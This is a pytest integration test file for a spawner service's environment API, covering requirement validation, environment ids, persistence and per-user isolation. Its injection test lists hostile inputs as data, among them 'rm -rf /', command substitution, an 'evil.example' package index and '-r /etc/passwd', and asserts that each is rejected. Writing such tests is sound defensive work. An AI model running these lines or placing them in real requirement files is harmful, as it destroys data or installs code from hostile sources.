"""The spawner's environment API under real uvicorn: validation, ids, persistence, per-user."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from rexec.requirements import environment_id, parse_requirements
from rexec_spawner.app import create_app
from tests.support.servers import free_port, serve
from tests.support.spawner import SpawnerFixture, make_spawner_fixture

pytestmark = pytest.mark.integration

MINOR = "{}.{}".format(*sys.version_info[:2])


@pytest.fixture
def stack(tmp_path: Path) -> SpawnerFixture:
    return make_spawner_fixture(tmp_path, broker_backend_url=f"tcp://127.0.0.1:{free_port()}")


@pytest.fixture
def client(stack: SpawnerFixture) -> Iterator[httpx.Client]:
    with (
        serve(create_app(stack.settings), probe="/healthz") as url,
        httpx.Client(base_url=url, timeout=20.0) as http,
    ):
        yield http


def put(client: httpx.Client, stack: SpawnerFixture, body: object, user: str = "alice"):
    return client.put(
        "/api/v1/workers/default/environment",
        json={"requirements": body},
        headers=stack.headers(user),
    )


@pytest.mark.parametrize(
    "line, reason",
    [
        ("numpy; rm -rf /", "not a valid requirement"),
        ('numpy; python_version > "$(touch {marker})"', "characters $"),
        ("numpy`touch {marker}`", "not a valid requirement"),
        ("numpy | touch {marker}", "not a valid requirement"),
        ("--index-url http://evil.example/simple", "installer options"),
        ("-r /etc/passwd", "installer options"),
        ("-e git+https://example.org/x.git#egg=x", "installer options"),
        ("pkg @ https://example.org/pkg.whl", "direct URLs"),
        ("https://example.org/pkg.whl", "direct URLs"),
        ("git+https://example.org/x.git", "direct URLs"),
    ],
)
def test_injection_attempts_are_422_naming_the_line_and_nothing_runs(
    client, stack, tmp_path, line, reason
):
    marker = tmp_path / "pwned"
    bad = line.format(marker=marker)
    response = put(client, stack, f"six\n# a comment\n{bad}\n")
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["line_number"] == 3 and body["line"] == bad
    assert reason in body["reason"] and "requirements line 3" in body["detail"]
    assert not marker.exists()
    # Nothing was recorded either.
    assert (
        client.get(
            "/api/v1/workers/default/environment", headers=stack.headers("alice")
        ).status_code
        == 404
    )


def test_specifiers_extras_and_markers_are_kept_exactly_and_recorded(client, stack):
    lines = ["numpy>=1.26", "pandas<3", 'pkg[extra]; python_version>"3.8"']
    response = put(client, stack, "\n".join(lines))
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["requirements"] == lines and body["python"] == MINOR
    assert body["env_id"] == environment_id(parse_requirements(lines), MINOR)
    # Persisted outside memory, where new workers of that name pick it up.
    recorded = stack.settings.data_dir / "workers"
    files = list(recorded.rglob("environment.json"))
    assert len(files) == 1 and json.loads(files[0].read_text())["requirements"] == lines
    got = client.get("/api/v1/workers/default/environment", headers=stack.headers("alice"))
    assert got.json()["env_id"] == body["env_id"]
    # A list of lines gives the same id as the file text; the order does not matter.
    again = put(client, stack, list(reversed(lines)))
    assert again.json()["env_id"] == body["env_id"]
    # Other users do not see it.
    other = client.get("/api/v1/workers/default/environment", headers=stack.headers("bob"))
    assert other.status_code == 404


def test_delete_goes_back_to_base(client, stack):
    assert put(client, stack, "six==1.16.0").status_code == 200
    deleted = client.delete("/api/v1/workers/default/environment", headers=stack.headers("alice"))
    assert deleted.status_code == 200 and deleted.json()["env_id"] == "base"
    got = client.get("/api/v1/workers/default/environment", headers=stack.headers("alice"))
    assert got.status_code == 404 and "base environment" in got.json()["detail"]


def test_options_and_urls_only_when_the_operator_allows_them(tmp_path):
    from dataclasses import replace

    fixture = make_spawner_fixture(tmp_path, broker_backend_url=f"tcp://127.0.0.1:{free_port()}")
    fixture.settings = replace(fixture.settings, env_allow_options=True, env_allow_urls=True)
    with (
        serve(create_app(fixture.settings), probe="/healthz") as url,
        httpx.Client(base_url=url, timeout=20.0) as http,
    ):
        lines = ["--index-url https://pypi.org/simple", "pkg @ https://example.org/pkg.whl"]
        ok = put(http, fixture, lines)
        assert ok.status_code == 200, ok.text
        assert ok.json()["requirements"] == lines
        # Still never a shell, and only known options.
        refused = put(http, fixture, ["--target /etc"])
        assert refused.status_code == 422 and "not allowed" in refused.json()["reason"]


def test_environment_ids_are_stable_and_depend_on_the_set_and_python():
    a = environment_id(parse_requirements("six==1.16.0\nidna==3.6"), "3.11")
    assert a == environment_id(parse_requirements("idna==3.6\nSix==1.16.0  # pinned"), "3.11.7")
    assert a != environment_id(parse_requirements("six==1.16.0\nidna==3.7"), "3.11")
    assert a != environment_id(parse_requirements("six==1.16.0\nidna==3.6"), "3.12")
    assert len(a) == 16 and int(a, 16) >= 0
    assert environment_id(parse_requirements("# nothing\n"), "3.11") == "base"
